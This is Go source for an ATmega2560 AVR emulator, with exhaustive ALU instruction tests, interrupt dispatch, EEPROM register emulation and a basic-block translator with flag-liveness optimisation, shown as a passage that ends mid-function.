func flagsEqual(got, want refFlags, checkH bool) bool {
	if got.c != want.c || got.z != want.z || got.n != want.n || got.v != want.v || got.s != want.s {
		return false
	}
	return !checkH || got.h == want.h
}

func TestADDExhaustive(t *testing.T) {
	rig := newALURig(t, asm.ADD(16, 17))
	for a := 0; a < 256; a++ {
		for b := 0; b < 256; b++ {
			got, gf := rig.run(t, byte(a), byte(b), false)
			want, wf := refAdd(byte(a), byte(b), false)
			if got != want || !flagsEqual(gf, wf, true) {
				t.Fatalf("add %d+%d: got r=%d %+v, want r=%d %+v", a, b, got, gf, want, wf)
			}
		}
	}
}

func TestADCExhaustiveWithCarry(t *testing.T) {
	rig := newALURig(t, asm.ADC(16, 17))
	for a := 0; a < 256; a += 3 {
		for b := 0; b < 256; b++ {
			for _, ci := range []bool{false, true} {
				got, gf := rig.run(t, byte(a), byte(b), ci)
				want, wf := refAdd(byte(a), byte(b), ci)
				if got != want || !flagsEqual(gf, wf, true) {
					t.Fatalf("adc %d+%d+%v: got r=%d %+v, want r=%d %+v", a, b, ci, got, gf, want, wf)
				}
			}
		}
	}
}

func TestSUBExhaustive(t *testing.T) {
	rig := newALURig(t, asm.SUB(16, 17))
	for a := 0; a < 256; a++ {
		for b := 0; b < 256; b++ {
			got, gf := rig.run(t, byte(a), byte(b), false)
			want, wf := refSub(byte(a), byte(b), false)
			if got != want || !flagsEqual(gf, wf, true) {
				t.Fatalf("sub %d-%d: got r=%d %+v, want r=%d %+v", a, b, got, gf, want, wf)
			}
		}
	}
}

func TestSBCExhaustiveZPropagation(t *testing.T) {
	// sbc result flags; Z is sticky (only cleared, never set) — the
	// multi-byte comparison behaviour.
	rig := newALURig(t, asm.SBC(16, 17))
	for a := 0; a < 256; a += 5 {
		for b := 0; b < 256; b++ {
			for _, ci := range []bool{false, true} {
				c := rig.c
				c.PC = 0
				c.SetSREG(0)
				c.SetReg(16, byte(a))
				c.SetReg(17, byte(b))
				c.SetFlag(avr.FlagC, ci)
				c.SetFlag(avr.FlagZ, true) // pretend low byte compared equal
				if err := c.Step(); err != nil {
					t.Fatal(err)
				}
				want, wf := refSub(byte(a), byte(b), ci)
				if got := c.Reg(16); got != want {
					t.Fatalf("sbc %d-%d-%v: result %d, want %d", a, b, ci, got, want)
				}
				wantZ := wf.z // true only if result 0...
				if wf.z {
					wantZ = true // ...and previous Z was true
				}
				if c.Flag(avr.FlagZ) != wantZ {
					t.Fatalf("sbc %d-%d-%v: Z=%v, want %v", a, b, ci, c.Flag(avr.FlagZ), wantZ)
				}
			}
		}
	}
}

func TestSBCClearsZOnNonzeroResult(t *testing.T) {
	word := asm.SBC(16, 17)
	c := avr.New()
	img := []byte{byte(word), byte(word >> 8), 0x88, 0x95}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.SetReg(16, 5)
	c.SetReg(17, 1)
	c.SetFlag(avr.FlagZ, true)
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	if c.Flag(avr.FlagZ) {
		t.Error("Z stayed set on nonzero sbc result")
	}
}

func TestLogicOpsExhaustive(t *testing.T) {
	ops := []struct {
		name string
		word uint16
		ref  func(a, b byte) byte
	}{
		{"and", asm.AND(16, 17), func(a, b byte) byte { return a & b }},
		{"or", asm.OR(16, 17), func(a, b byte) byte { return a | b }},
		{"eor", asm.EOR(16, 17), func(a, b byte) byte { return a ^ b }},
	}
	for _, op := range ops {
		rig := newALURig(t, op.word)
		for a := 0; a < 256; a += 7 {
			for b := 0; b < 256; b++ {
				got, gf := rig.run(t, byte(a), byte(b), false)
				want := op.ref(byte(a), byte(b))
				if got != want {
					t.Fatalf("%s %d,%d: got %d, want %d", op.name, a, b, got, want)
				}
				if gf.v {
					t.Fatalf("%s: V set (logic ops clear V)", op.name)
				}
				if gf.z != (want == 0) || gf.n != (want&0x80 != 0) || gf.s != (gf.n != gf.v) {
					t.Fatalf("%s %d,%d: flags %+v", op.name, a, b, gf)
				}
			}
		}
	}
}

func TestCPMatchesSUBWithoutWriteback(t *testing.T) {
	rig := newALURig(t, asm.CP(16, 17))
	for a := 0; a < 256; a += 11 {
		for b := 0; b < 256; b++ {
			_, gf := rig.run(t, byte(a), byte(b), false)
			c := rig.c
			if got := c.Reg(16); got != byte(a) {
				t.Fatalf("cp modified rd: %d", got)
			}
			_, wf := refSub(byte(a), byte(b), false)
			if !flagsEqual(gf, wf, true) {
				t.Fatalf("cp %d,%d: flags %+v, want %+v", a, b, gf, wf)
			}
		}
	}
}

func TestINCDECExhaustive(t *testing.T) {
	rigI := newALURig(t, asm.INC(16))
	rigD := newALURig(t, asm.DEC(16))
	for a := 0; a < 256; a++ {
		gotI, fI := rigI.run(t, byte(a), 0, false)
		if gotI != byte(a)+1 {
			t.Fatalf("inc %d = %d", a, gotI)
		}
		if fI.v != (a == 0x7F) {
			t.Fatalf("inc %d: V=%v", a, fI.v)
		}
		gotD, fD := rigD.run(t, byte(a), 0, false)
		if gotD != byte(a)-1 {
			t.Fatalf("dec %d = %d", a, gotD)
		}
		if fD.v != (a == 0x80) {
			t.Fatalf("dec %d: V=%v", a, fD.v)
		}
	}
}

func TestNEGCOMExhaustive(t *testing.T) {
	rigN := newALURig(t, asm.NEG(16))
	rigC := newALURig(t, asm.COM(16))
	for a := 0; a < 256; a++ {
		gotN, fN := rigN.run(t, byte(a), 0, false)
		if gotN != byte(-int8(a))&0xFF {
			t.Fatalf("neg %d = %d", a, gotN)
		}
		_, wf := refSub(0, byte(a), false)
		if fN.c != wf.c || fN.z != wf.z || fN.v != wf.v {
			t.Fatalf("neg %d: flags %+v want %+v", a, fN, wf)
		}
		gotC, fC := rigC.run(t, byte(a), 0, false)
		if gotC != ^byte(a) {
			t.Fatalf("com %d = %d", a, gotC)
		}
		if !fC.c {
			t.Fatal("com must set C")
		}
	}
}

func TestShiftsExhaustive(t *testing.T) {
	rigL := newALURig(t, asm.LSR(16))
	rigA := newALURig(t, asm.ASR(16))
	rigR := newALURig(t, asm.ROR(16))
	for a := 0; a < 256; a++ {
		for _, ci := range []bool{false, true} {
			gotL, fL := rigL.run(t, byte(a), 0, ci)
			if gotL != byte(a)>>1 {
				t.Fatalf("lsr %d = %d", a, gotL)
			}
			if fL.c != (a&1 == 1) {
				t.Fatalf("lsr %d: C=%v", a, fL.c)
			}
			gotA, _ := rigA.run(t, byte(a), 0, ci)
			if gotA != byte(int8(a)>>1) {
				t.Fatalf("asr %d = %d, want %d", a, gotA, byte(int8(a)>>1))
			}
			gotR, fR := rigR.run(t, byte(a), 0, ci)
			want := byte(a) >> 1
			if ci {
				want |= 0x80
			}
			if gotR != want {
				t.Fatalf("ror %d (ci=%v) = %d, want %d", a, ci, gotR, want)
			}
			if fR.c != (a&1 == 1) {
				t.Fatalf("ror %d: C=%v", a, fR.c)
			}
		}
	}
}

func TestMULExhaustive(t *testing.T) {
	rig := newALURig(t, asm.MUL(16, 17))
	for a := 0; a < 256; a += 3 {
		for b := 0; b < 256; b += 3 {
			c := rig.c
			c.PC = 0
			c.SetSREG(0)
			c.SetReg(16, byte(a))
			c.SetReg(17, byte(b))
			if err := c.Step(); err != nil {
				t.Fatal(err)
			}
			want := uint16(a) * uint16(b)
			if got := c.RegPair(0); got != want {
				t.Fatalf("mul %d*%d = %d, want %d", a, b, got, want)
			}
			if c.Flag(avr.FlagC) != (want&0x8000 != 0) || c.Flag(avr.FlagZ) != (want == 0) {
				t.Fatalf("mul %d*%d flags wrong", a, b)
			}
		}
	}
}

func TestSWAPExhaustive(t *testing.T) {
	rig := newALURig(t, asm.SWAP(16))
	for a := 0; a < 256; a++ {
		got, _ := rig.run(t, byte(a), 0, false)
		if got != byte(a)<<4|byte(a)>>4 {
			t.Fatalf("swap %d = %d", a, got)
		}
	}
}

// 16-bit add/sub-immediate semantics across the carry boundary.
func TestADIWSBIWExhaustive(t *testing.T) {
	for hi := 0; hi < 256; hi += 17 {
		for lo := 0; lo < 256; lo += 5 {
			for k := 0; k < 64; k += 9 {
				w := asm.ADIW(24, k)
				rig := newALURig(t, w)
				c := rig.c
				c.PC = 0
				c.SetSREG(0)
				c.SetRegPair(24, uint16(hi)<<8|uint16(lo))
				if err := c.Step(); err != nil {
					t.Fatal(err)
				}
				want := uint16(hi)<<8 | uint16(lo) + 0
				want += uint16(k)
				if got := c.RegPair(24); got != want {
					t.Fatalf("adiw %04X+%d = %04X, want %04X", uint16(hi)<<8|uint16(lo), k, got, want)
				}
				if c.Flag(avr.FlagZ) != (want == 0) {
					t.Fatal("adiw Z wrong")
				}
			}
		}
	}
}

func TestMULSAndMULSU(t *testing.T) {
	cases := []struct {
		word uint16
		a, b byte
		want uint16
	}{
		{asm.MULS(16, 17), 0xFF, 0x02, 0xFFFE},  // -1 * 2 = -2
		{asm.MULS(16, 17), 0x80, 0x80, 0x4000},  // -128 * -128
		{asm.MULSU(16, 17), 0xFF, 0xFF, 0xFF01}, // -1 * 255 = -255
		{asm.MULSU(16, 17), 0x02, 0xFF, 0x01FE}, // 2 * 255
	}
	for i, tc := range cases {
		c := avr.New()
		img := []byte{byte(tc.word), byte(tc.word >> 8), 0x88, 0x95}
		if err := c.LoadFlash(img); err != nil {
			t.Fatal(err)
		}
		c.SetReg(16, tc.a)
		c.SetReg(17, tc.b)
		if err := c.Step(); err != nil {
			t.Fatal(err)
		}
		if got := c.RegPair(0); got != tc.want {
			t.Errorf("case %d: r1:r0 = 0x%04X, want 0x%04X", i, got, tc.want)
		}
	}
}

func TestSTSThenLDSAtExtendedIO(t *testing.T) {
	// Extended I/O (0x60..0x1FF) is reachable only via lds/sts.
	rig := newALURig(t, asm.STS(0x00C4, 16)[0])
	c := rig.c
	// Build a two-word program manually: sts 0xC4, r16 ; nop
	w := asm.STS(0x00C4, 16)
	img := []byte{byte(w[0]), byte(w[0] >> 8), byte(w[1]), byte(w[1] >> 8), 0, 0}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.PC = 0
	c.SetReg(16, 0x9D)
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	if c.Data[0x00C4] != 0x9D {
		t.Errorf("extended IO write failed: 0x%02X", c.Data[0x00C4])
	}
}

func TestStackOverflowFault(t *testing.T) {
	c := avr.New()
	img := []byte{byte(asm.PUSH(0)), byte(asm.PUSH(0) >> 8), 0, 0}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.SetSP(avr.SRAMBase) // one byte of stack left
	if err := c.Step(); err == nil {
		t.Fatal("push into the register file did not fault")
	}
	if c.Fault().Kind != avr.FaultStackOverflow {
		t.Errorf("fault = %v, want stack overflow", c.Fault().Kind)
	}
}

func TestFaultErrorString(t *testing.T) {
	c := avr.New()
	if err := c.LoadFlash([]byte{0xFF, 0xFF}); err != nil {
		t.Fatal(err)
	}
	err := c.Step()
	if err == nil || err.Error() == "" {
		t.Fatal("fault has no message")
	}
	for _, k := range []avr.FaultKind{
		avr.FaultInvalidOpcode, avr.FaultPCOutOfRange, avr.FaultStackOverflow,
		avr.FaultBreak, avr.FaultCycleBudget, avr.FaultKind(99),
	} {
		if k.String() == "" {
			t.Errorf("kind %d has empty name", k)
		}
	}
}

func TestLoadFlashTooLarge(t *testing.T) {
	c := avr.New()
	if err := c.LoadFlash(make([]byte, avr.FlashSize+2)); err == nil {
		t.Error("oversized image accepted")
	}
}
