package avr

// NumVectors is the ATmega2560 interrupt vector count (reset + 56
// peripheral vectors). Each vector slot holds a two-word jmp, so vector
// v lives at word address v*2.
const NumVectors = 57

// Well-known vector numbers used by the simulation.
const (
	// VectorReset is the reset vector.
	VectorReset = 0
	// VectorTimer0Ovf is TIMER0 OVF on the ATmega2560.
	VectorTimer0Ovf = 23
	// VectorUSART0RX is USART0 RX complete.
	VectorUSART0RX = 25
)

// RaiseInterrupt marks vector v pending. It is dispatched before the
// next instruction once the global interrupt flag allows it; pending
// interrupts also wake the core from SLEEP.
func (c *CPU) RaiseInterrupt(v int) {
	if v <= 0 || v >= NumVectors {
		return
	}
	c.pendingInts |= 1 << uint(v)
}

// PendingInterrupts reports whether any interrupt is waiting.
func (c *CPU) PendingInterrupts() bool { return c.pendingInts != 0 }

// dispatchInterrupt vectors to the lowest pending interrupt if the I
// flag is set and no one-instruction SEI delay is in effect. It mirrors
// the hardware: push the 3-byte return address, clear I, jump to the
// vector slot. Returns true when an interrupt was taken.
func (c *CPU) dispatchInterrupt() bool {
	if c.pendingInts == 0 {
		return false
	}
	if c.Sleeping {
		// Wake regardless; the handler runs only if I is set.
		c.Sleeping = false
	}
	if !c.Flag(FlagI) || c.intSuppress {
		return false
	}
	var v int
	for v = 1; v < NumVectors; v++ {
		if c.pendingInts&(1<<uint(v)) != 0 {
			break
		}
	}
	c.pendingInts &^= 1 << uint(v)
	c.PushPC(c.PC)
	c.SetFlag(FlagI, false)
	c.PC = uint32(v * 2)
	c.Cycles += 5
	return true
}

// noteSREGWrite implements the hardware rule that enabling the global
// interrupt flag (sei, or any SREG write that sets I) delays interrupt
// recognition by one instruction. This is what makes the epilogue idiom
//
//	in r0, SREG ; cli ; out SPH, r29 ; out SREG, r0 ; out SPL, r28
//
// atomic: the SPL write always executes before any pending interrupt,
// even though SREG (with I possibly set) is restored between the two
// stack-pointer writes. The paper's Fig. 4 stk_move gadget is exactly
// this window.
func (c *CPU) noteSREGWrite(old, new byte) {
	if old&(1<<FlagI) == 0 && new&(1<<FlagI) != 0 {
		c.intSuppress = true
	}
}
