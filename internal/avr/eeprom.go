package avr

// EEPROM controller registers (data-space addresses). The 4 KB EEPROM
// of Fig. 1 holds persistent configuration; programs access it through
// EEAR/EEDR/EECR exactly as on hardware.
const (
	AddrEECR  = 0x3F // io 0x1F
	AddrEEDR  = 0x40 // io 0x20
	AddrEEARL = 0x41 // io 0x21
	AddrEEARH = 0x42 // io 0x22
)

// EECR bits.
const (
	BitEERE  = 0 // read enable (strobe)
	BitEEPE  = 1 // program enable (strobe, requires EEMPE armed)
	BitEEMPE = 2 // master program enable (arms EEPE for 4 cycles)
)

// installEEPROM wires the EEPROM controller into the I/O space. Reads
// and writes take effect immediately (the multi-millisecond programming
// time is irrelevant to the simulated experiments).
func (c *CPU) installEEPROM() {
	armedUntil := uint64(0)
	c.HookWrite(AddrEECR, func(v byte) {
		addr := (uint16(c.Data[AddrEEARH])<<8 | uint16(c.Data[AddrEEARL])) % EEPROMSize
		if v&(1<<BitEEMPE) != 0 {
			armedUntil = c.Cycles + 4
		}
		if v&(1<<BitEERE) != 0 {
			c.Data[AddrEEDR] = c.EEPROM[addr]
		}
		if v&(1<<BitEEPE) != 0 && c.Cycles <= armedUntil {
			c.EEPROM[addr] = c.Data[AddrEEDR]
		}
		// Strobe bits auto-clear.
		c.Data[AddrEECR] = v &^ (1<<BitEERE | 1<<BitEEPE)
	})
}
