package avr

// Basic-block translation: decoded instructions become chains of
// specialized Go closures. Each closure captures its operands as
// constants (register indices, immediates, precomputed branch
// targets), so executing a block is a run of direct calls with no
// fetch, no bounds test, no budget test and no dispatch switch.
//
// Within a block the translator also performs flag-liveness hoisting:
// a backwards scan over each straight-line run of pure (hook-free)
// instructions finds arithmetic whose SREG results are overwritten
// before any read, and emits flag-free variants for them. The scan
// resets to "all flags live" at every hook-capable instruction and at
// the block end, so SREG is always architecturally correct at every
// point where execution could leave the block (fault, interrupt bail,
// terminator) — flag elision is never observable.

// SREG flag bit masks for the liveness scan.
const (
	mC = 1 << FlagC
	mZ = 1 << FlagZ
	mT = 1 << FlagT

	mArith = 1<<FlagH | 1<<FlagC | 1<<FlagN | 1<<FlagV | 1<<FlagS | 1<<FlagZ
	mLogic = 1<<FlagN | 1<<FlagV | 1<<FlagS | 1<<FlagZ // and/or/eor, inc/dec (no C/H)
	mShift = 1<<FlagC | 1<<FlagZ | 1<<FlagN | 1<<FlagV | 1<<FlagS
	mAll   = 0xFF
)

// flagEffects returns the SREG bits a pure instruction reads and
// writes. ok is false for hook-capable (impure) instructions and
// terminators, which the liveness scan treats as reading everything.
func flagEffects(in Instr) (read, written uint8, ok bool) {
	switch in.Op {
	case OpNOP, OpWDR, OpMOVW, OpMOV, OpLDI, OpSWAP,
		OpLPM, OpLPMZ, OpLPMZInc, OpELPM, OpELPMZ, OpELPMZInc:
		return 0, 0, true
	case OpADD, OpSUB, OpSUBI, OpCP, OpCPI, OpNEG:
		return 0, mArith, true
	case OpADC:
		return mC, mArith, true
	case OpSBC, OpSBCI, OpCPC:
		return mC | mZ, mArith, true
	case OpAND, OpANDI, OpOR, OpORI, OpEOR:
		return 0, mLogic, true
	case OpCOM:
		return 0, mLogic | mC, true
	case OpINC, OpDEC:
		return 0, mLogic, true
	case OpASR, OpLSR:
		return 0, mShift, true
	case OpROR:
		return mC, mShift, true
	case OpMUL, OpMULS, OpMULSU, OpFMUL:
		return 0, mC | mZ, true
	case OpADIW, OpSBIW:
		return 0, mShift, true
	case OpBSET:
		if in.D == FlagI {
			// sei starts the one-instruction interrupt delay: the next
			// step must replay the interpreter's pre-instruction check,
			// so treat it like a hook-capable instruction.
			return mAll, 0, false
		}
		return 0, 1 << in.D, true
	case OpBCLR:
		return 0, 1 << in.D, true
	case OpBLD:
		return mT, 0, true
	case OpBST:
		return 0, mT, true
	}
	// Everything else reaches data space through Read/WriteData (hooks,
	// memory-mapped SREG) or is a terminator: all flags live.
	return mAll, 0, false
}

// isTranslatableBody reports whether genBody has a specialized closure
// for op. Any op outside this set and the terminator set (a future
// extension of the decoder) cuts the block so the interpreter handles
// it — translation never guesses at semantics.
func isTranslatableBody(op Op) bool {
	switch op {
	case OpNOP, OpWDR, OpMOVW, OpMOV, OpLDI, OpSWAP,
		OpADD, OpADC, OpSUB, OpSBC, OpSUBI, OpSBCI, OpCP, OpCPC, OpCPI,
		OpAND, OpANDI, OpOR, OpORI, OpEOR, OpCOM, OpNEG, OpINC, OpDEC,
		OpASR, OpLSR, OpROR, OpMUL, OpMULS, OpMULSU, OpFMUL, OpADIW, OpSBIW,
		OpBSET, OpBCLR, OpBLD, OpBST,
		OpIN, OpOUT, OpCBI, OpSBI, OpLDS, OpSTS,
		OpLDX, OpLDXInc, OpLDXDec, OpLDYInc, OpLDYDec, OpLDZInc, OpLDZDec,
		OpLDDY, OpLDDZ, OpSTX, OpSTXInc, OpSTXDec, OpSTYInc, OpSTYDec,
		OpSTZInc, OpSTZDec, OpSTDY, OpSTDZ,
		OpLPM, OpLPMZ, OpLPMZInc, OpELPM, OpELPMZ, OpELPMZInc,
		OpPUSH, OpPOP:
		return true
	}
	return false
}

// isBlockTerminator reports whether in ends a basic block: control
// transfers, conditional skips, self-programming, sleep, break and
// invalid encodings.
func isBlockTerminator(in Instr) bool {
	switch in.Op {
	case OpRJMP, OpJMP, OpIJMP, OpEIJMP, OpRCALL, OpCALL, OpICALL, OpEICALL,
		OpRET, OpRETI, OpBRBS, OpBRBC,
		OpCPSE, OpSBRC, OpSBRS, OpSBIC, OpSBIS,
		OpSPM, OpSLEEP, OpBREAK, OpInvalid:
		return true
	}
	return false
}

// termWorstCycles is the worst-case cycle cost of a terminator, used
// for the block's entry budget gate.
func termWorstCycles(in Instr) uint64 {
	base := baseCycles(in.Op)
	switch in.Op {
	case OpBRBS, OpBRBC:
		return base + 1 // taken branch
	case OpCPSE, OpSBRC, OpSBRS, OpSBIC, OpSBIS:
		return base + 2 // skipping a two-word instruction
	case OpSPM:
		return base + 4 // execSPM busy time
	}
	return base
}

// noopStep is emitted for architecturally effect-free instructions
// (nop, wdr, dead compares) that must still exist as a step because
// they carry the pre-instruction check of a preceding impure step.
func noopStep(*CPU) {}

// translate builds the basic block entered at word address entry, or
// returns nil when the entry instruction cannot be translated.
// Decoding goes through the predecode cache, so the two layers always
// agree on instruction boundaries.
func (c *CPU) translate(entry uint32) *block {
	type decoded struct {
		in Instr
		pc uint32
	}
	var body []decoded
	var term *decoded
	pc := entry
	for pc < FlashWords {
		in := c.fetch(pc)
		d := decoded{in: in, pc: pc}
		if isBlockTerminator(in) {
			term = &d
			pc += uint32(in.Words)
			break
		}
		if !isTranslatableBody(in.Op) {
			break // cut the block; the interpreter executes this op
		}
		body = append(body, d)
		pc += uint32(in.Words)
		if len(body) >= maxBlockInstrs {
			break
		}
	}
	if len(body) == 0 && term == nil {
		return nil // untranslatable entry: poison so Run keeps interpreting
	}
	end := pc // word address after the block (fallthrough target)
	c.blkStats.Translated++

	b := &block{}

	// Stamp the covering flash pages with their current generation.
	firstPage := entry * 2 / SPMPageSize
	lastPage := (end*2 - 1) / SPMPageSize
	if lastPage >= flashPages {
		lastPage = flashPages - 1
	}
	b.pages[0], b.gens[0] = firstPage, c.pageGen[firstPage]
	b.npages = 1
	if lastPage != firstPage {
		b.pages[1], b.gens[1] = lastPage, c.pageGen[lastPage]
		b.npages = 2
	}

	// Backwards flag-liveness scan over the body: deadFlags[i] is true
	// when instruction i's SREG writes are all overwritten before any
	// read, with no possible block exit in between.
	deadFlags := make([]bool, len(body))
	live := uint8(mAll)
	for i := len(body) - 1; i >= 0; i-- {
		read, written, ok := flagEffects(body[i].in)
		if !ok {
			live = mAll
			continue
		}
		if written != 0 && written&live == 0 {
			deadFlags[i] = true
		}
		live = live&^written | read
	}

	// Emit steps forward, accumulating straight-line cycles.
	var cycles uint64
	pure := true
	steps := make([]blockStep, 0, len(body)+1)
	prevImpure := false // does the previous instruction need a check after it?
	for i, d := range body {
		fn, impure := c.genBody(d.in, d.pc, deadFlags[i], b, cycles)
		check := prevImpure
		prevImpure = impure
		if impure {
			pure = false
		}
		if fn == nil {
			// Effect-free (nop/wdr/dead compare): elide the step
			// entirely unless it carries a check.
			if !check {
				cycles += baseCycles(d.in.Op)
				continue
			}
			fn = noopStep
		}
		steps = append(steps, blockStep{fn: fn, pc: d.pc, fixup: cycles, check: check})
		cycles += baseCycles(d.in.Op)
	}
	b.body = cycles

	var termStep blockStep
	if term != nil {
		termStep = blockStep{fn: c.genTerm(term.in, term.pc), pc: term.pc, fixup: cycles, check: prevImpure}
		b.cycles = cycles + termWorstCycles(term.in)
	} else {
		// Synthetic fallthrough: the block was cut by the length cap, an
		// untranslatable op, or the flash boundary. setPC performs the
		// same out-of-range check the interpreter would reach next.
		target := end
		termStep = blockStep{fn: func(c *CPU) { c.setPC(target) }, pc: end, fixup: cycles, check: prevImpure}
		b.cycles = cycles + 1 // keep the entry gate strictly progressing
	}
	steps = append(steps, termStep)

	// fixup currently holds cycles-before-step; convert to the rewind
	// delta (body sum minus cycles-before).
	for i := range steps {
		steps[i].fixup = b.body - steps[i].fixup
	}

	if pure {
		fns := make([]func(*CPU), len(steps))
		for i := range steps {
			fns[i] = steps[i].fn
		}
		b.fns = fns
	} else {
		b.steps = steps
	}
	return b
}

// genBody returns the closure for one straight-line instruction and
// whether the instruction is hook-capable (impure): able to fault,
// raise an interrupt through an I/O hook, or alter interrupt
// recognition. A nil closure marks an architecturally effect-free
// instruction. Flag-dead instructions get variants that skip SREG
// materialization entirely. b and cb (the block under construction and
// the straight-line cycles before this instruction) let faulting
// closures reconstruct the unbatched cycle count for fault records.
func (c *CPU) genBody(in Instr, pc uint32, dead bool, b *block, cb uint64) (fn func(*CPU), impure bool) {
	d, r := in.D, in.R
	k := byte(in.K)
	switch in.Op {
	case OpNOP, OpWDR:
		return nil, false

	case OpMOVW:
		return func(c *CPU) {
			c.Data[d] = c.Data[r]
			c.Data[d+1] = c.Data[r+1]
		}, false

	case OpADD:
		if dead {
			return func(c *CPU) { c.Data[d] += c.Data[r] }, false
		}
		return func(c *CPU) { c.Data[d] = c.addFlags(c.Data[d], c.Data[r], false) }, false
	case OpADC:
		if dead {
			return func(c *CPU) { c.Data[d] += c.Data[r] + c.Data[AddrSREG]&1 }, false
		}
		return func(c *CPU) { c.Data[d] = c.addFlags(c.Data[d], c.Data[r], c.Data[AddrSREG]&mC != 0) }, false
	case OpSUB:
		if dead {
			return func(c *CPU) { c.Data[d] -= c.Data[r] }, false
		}
		return func(c *CPU) { c.Data[d] = c.subFlags(c.Data[d], c.Data[r], false, false) }, false
	case OpSBC:
		if dead {
			return func(c *CPU) { c.Data[d] -= c.Data[r] + c.Data[AddrSREG]&1 }, false
		}
		return func(c *CPU) { c.Data[d] = c.subFlags(c.Data[d], c.Data[r], c.Data[AddrSREG]&mC != 0, true) }, false
	case OpSUBI:
		if dead {
			return func(c *CPU) { c.Data[d] -= k }, false
		}
		return func(c *CPU) { c.Data[d] = c.subFlags(c.Data[d], k, false, false) }, false
	case OpSBCI:
		if dead {
			return func(c *CPU) { c.Data[d] -= k + c.Data[AddrSREG]&1 }, false
		}
		return func(c *CPU) { c.Data[d] = c.subFlags(c.Data[d], k, c.Data[AddrSREG]&mC != 0, true) }, false

	case OpCP:
		if dead {
			return nil, false
		}
		return func(c *CPU) { c.subFlags(c.Data[d], c.Data[r], false, false) }, false
	case OpCPC:
		if dead {
			return nil, false
		}
		return func(c *CPU) { c.subFlags(c.Data[d], c.Data[r], c.Data[AddrSREG]&mC != 0, true) }, false
	case OpCPI:
		if dead {
			return nil, false
		}
		return func(c *CPU) { c.subFlags(c.Data[d], k, false, false) }, false

	case OpAND:
		if dead {
			return func(c *CPU) { c.Data[d] &= c.Data[r] }, false
		}
		return func(c *CPU) { c.Data[d] = c.logicFlags(c.Data[d] & c.Data[r]) }, false
	case OpANDI:
		if dead {
			return func(c *CPU) { c.Data[d] &= k }, false
		}
		return func(c *CPU) { c.Data[d] = c.logicFlags(c.Data[d] & k) }, false
	case OpOR:
		if dead {
			return func(c *CPU) { c.Data[d] |= c.Data[r] }, false
		}
		return func(c *CPU) { c.Data[d] = c.logicFlags(c.Data[d] | c.Data[r]) }, false
	case OpORI:
		if dead {
			return func(c *CPU) { c.Data[d] |= k }, false
		}
		return func(c *CPU) { c.Data[d] = c.logicFlags(c.Data[d] | k) }, false
	case OpEOR:
		if dead {
			return func(c *CPU) { c.Data[d] ^= c.Data[r] }, false
		}
		return func(c *CPU) { c.Data[d] = c.logicFlags(c.Data[d] ^ c.Data[r]) }, false

	case OpMOV:
		return func(c *CPU) { c.Data[d] = c.Data[r] }, false
	case OpLDI:
		return func(c *CPU) { c.Data[d] = k }, false

	case OpCOM:
		if dead {
			return func(c *CPU) { c.Data[d] = ^c.Data[d] }, false
		}
		return func(c *CPU) {
			v := ^c.Data[d]
			c.logicFlags(v)
			c.SetFlag(FlagC, true)
			c.Data[d] = v
		}, false
	case OpNEG:
		if dead {
			return func(c *CPU) { c.Data[d] = -c.Data[d] }, false
		}
		return func(c *CPU) { c.Data[d] = c.subFlags(0, c.Data[d], false, false) }, false
	case OpSWAP:
		return func(c *CPU) {
			v := c.Data[d]
			c.Data[d] = v<<4 | v>>4
		}, false
	case OpINC:
		if dead {
			return func(c *CPU) { c.Data[d]++ }, false
		}
		return func(c *CPU) {
			v := c.Data[d] + 1
			c.SetFlag(FlagV, v == 0x80)
			c.nzs(v)
			c.Data[d] = v
		}, false
	case OpDEC:
		if dead {
			return func(c *CPU) { c.Data[d]-- }, false
		}
		return func(c *CPU) {
			v := c.Data[d] - 1
			c.SetFlag(FlagV, v == 0x7F)
			c.nzs(v)
			c.Data[d] = v
		}, false
	case OpASR:
		if dead {
			return func(c *CPU) {
				v := c.Data[d]
				c.Data[d] = v>>1 | v&0x80
			}, false
		}
		return func(c *CPU) {
			v := c.Data[d]
			res := v>>1 | v&0x80
			c.shiftFlags(res, v&1 != 0)
			c.Data[d] = res
		}, false
	case OpLSR:
		if dead {
			return func(c *CPU) { c.Data[d] >>= 1 }, false
		}
		return func(c *CPU) {
			v := c.Data[d]
			res := v >> 1
			c.shiftFlags(res, v&1 != 0)
			c.Data[d] = res
		}, false
	case OpROR:
		if dead {
			return func(c *CPU) {
				v := c.Data[d]
				c.Data[d] = v>>1 | c.Data[AddrSREG]<<7 // carry is SREG bit 0
			}, false
		}
		return func(c *CPU) {
			v := c.Data[d]
			res := v>>1 | c.Data[AddrSREG]<<7
			c.shiftFlags(res, v&1 != 0)
			c.Data[d] = res
		}, false

	case OpMUL:
		if dead {
			return func(c *CPU) { c.SetRegPair(0, uint16(c.Data[d])*uint16(c.Data[r])) }, false
		}
		return func(c *CPU) {
			p := uint16(c.Data[d]) * uint16(c.Data[r])
			c.SetRegPair(0, p)
			c.SetFlag(FlagC, p&0x8000 != 0)
			c.SetFlag(FlagZ, p == 0)
		}, false
	case OpMULS:
		if dead {
			return func(c *CPU) { c.SetRegPair(0, uint16(int16(int8(c.Data[d]))*int16(int8(c.Data[r])))) }, false
		}
		return func(c *CPU) {
			p := int16(int8(c.Data[d])) * int16(int8(c.Data[r]))
			c.SetRegPair(0, uint16(p))
			c.SetFlag(FlagC, uint16(p)&0x8000 != 0)
			c.SetFlag(FlagZ, p == 0)
		}, false
	case OpMULSU, OpFMUL:
		shift := in.Op == OpFMUL
		if dead {
			return func(c *CPU) {
				p := int16(int8(c.Data[d])) * int16(c.Data[r])
				if shift {
					p <<= 1
				}
				c.SetRegPair(0, uint16(p))
			}, false
		}
		return func(c *CPU) {
			p := int16(int8(c.Data[d])) * int16(c.Data[r])
			if shift {
				p <<= 1
			}
			c.SetRegPair(0, uint16(p))
			c.SetFlag(FlagC, uint16(p)&0x8000 != 0)
			c.SetFlag(FlagZ, p == 0)
		}, false

	case OpADIW:
		kw := uint16(in.K)
		if dead {
			return func(c *CPU) { c.SetRegPair(d, c.RegPair(d)+kw) }, false
		}
		return func(c *CPU) {
			v := c.RegPair(d)
			res := v + kw
			c.SetRegPair(d, res)
			c.SetFlag(FlagC, res < v)
			c.SetFlag(FlagZ, res == 0)
			c.SetFlag(FlagN, res&0x8000 != 0)
			c.SetFlag(FlagV, v&0x8000 == 0 && res&0x8000 != 0)
